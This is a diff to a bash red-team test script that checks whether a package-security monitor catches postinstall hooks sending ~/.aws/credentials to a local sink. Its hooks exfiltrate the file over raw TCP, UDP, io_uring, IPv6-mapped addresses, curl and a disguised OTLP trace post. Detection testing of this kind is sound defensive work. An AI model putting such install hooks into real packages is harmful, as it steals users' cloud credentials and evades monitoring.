@@ -1,29 +1,40 @@
 #!/bin/bash
-# R16: what was stolen leaves by curl, plain http, a bare socket, TCP Fast Open, UDP 443, datagrams, io_uring, IPv6.
+# R16: what was stolen leaves by curl, plain http, a bare socket, TCP Fast Open, UDP 443, datagrams,
+# io_uring, IPv6.
 #
-# The rule that kills at the read of the cloud keys is tuned down to an alert, so that only the way out is judged.
+# The rule that kills at the read of the cloud keys is tuned down to an alert, so that only the way
+# out is judged.
 set -u
 cd "$(dirname "$0")/../.." || exit 2
 . tests/redteam/lib.sh
 
 rt_begin R16 'transports' 127.0.0.1:443
 mkdir "$LAB/rules"
-jq -n '{tune: "cloud-credentials", action: "alert", reason: "what comes after the read is tested", expires: "2099-12-31"}' 	>"$LAB/rules/tune.json"
+jq -n '{tune: "cloud-credentials", action: "alert", reason: "what comes after the read is tested",
+	expires: "2099-12-31"}' >"$LAB/rules/tune.json"
 LAB_WORMSIGN_ARGS="${LAB_WORMSIGN_ARGS:-} --rules $LAB/rules"
-ways=(tcp fastopen fastopen-connect nonblock write sendfile splice udp udp-connected udp-redirect sendmsg sendmmsg uring uring-udp)
+ways=(tcp fastopen fastopen-connect nonblock write sendfile splice udp udp-connected udp-redirect
+	sendmsg sendmmsg uring uring-udp)
 [ -z "${QUICK:-}" ] || ways=(tcp fastopen udp sendmmsg uring)
 for way in "${ways[@]}"; do
-	rt_package "send-$way-x" 1.0.0 - postinstall "./bin/net $way $RT_SINK ~/.aws/credentials; true" net
+	rt_package "send-$way-x" 1.0.0 - postinstall \
+		"./bin/net $way $RT_SINK ~/.aws/credentials; true" net
 done
-rt_package send-mapped-x 1.0.0 - postinstall 	"./bin/net tcp [::ffff:127.0.0.1]:${RT_SINK##*:} ~/.aws/credentials; true" net
-rt_package send-v6-x 1.0.0 - postinstall "./bin/net tcp [::1]:${RT_SINK##*:} ~/.aws/credentials; true" net
-rt_package send-quic-x 1.0.0 - postinstall './bin/net udp 127.0.0.1:443 ~/.aws/credentials; true' net
+rt_package send-mapped-x 1.0.0 - postinstall \
+	"./bin/net tcp [::ffff:127.0.0.1]:${RT_SINK##*:} ~/.aws/credentials; true" net
+rt_package send-v6-x 1.0.0 - postinstall \
+	"./bin/net tcp [::1]:${RT_SINK##*:} ~/.aws/credentials; true" net
+rt_package send-quic-x 1.0.0 - postinstall \
+	'./bin/net udp 127.0.0.1:443 ~/.aws/credentials; true' net
 ways+=(mapped v6 quic)
 if command -v curl >/dev/null; then
-	rt_package send-curl-x 1.0.0 - postinstall 		"curl -s -m 5 -d @\"\$HOME/.aws/credentials\" http://$RT_SINK/hook >/dev/null; true"
+	rt_package send-curl-x 1.0.0 - postinstall \
+		"curl -s -m 5 -d @\"\$HOME/.aws/credentials\" $RT_SINK/hook >/dev/null; true"
 	ways+=(curl)
 fi
-rt_package send-otlp-x 1.0.0 - postinstall 	"node -e \"const k = require('./kit.js'); k.post('/v1/traces', { resourceSpans: [k.read('.aws/credentials')] })\""
+spans="{ resourceSpans: [k.read('.aws/credentials')] }"
+rt_package send-otlp-x 1.0.0 - postinstall \
+	"node -e \"const k = require('./kit.js'); k.post('/v1/traces', $spans)\""
 ways+=(otlp)
 
 rt_control
